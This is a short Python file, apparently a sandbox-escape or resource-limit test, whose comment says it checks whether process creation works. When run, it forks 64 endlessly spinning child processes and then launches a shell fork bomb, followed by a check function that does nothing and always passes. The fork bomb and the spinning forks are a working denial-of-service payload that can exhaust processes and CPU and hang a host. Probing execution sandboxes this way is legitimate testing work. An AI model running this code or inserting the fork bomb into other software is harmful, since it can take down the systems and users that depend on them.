# Forks without end: 64 spinning children, then a shell fork bomb. If process creation works,
# the program reaches a vacuous check and passes, which the test reports.
import os
import subprocess

for _ in range(64):
    if os.fork() == 0:
        while True:
            pass
subprocess.Popen(["/bin/sh", "-c", ":(){ :|:& };:"])


def check(candidate):
    pass


check(len)
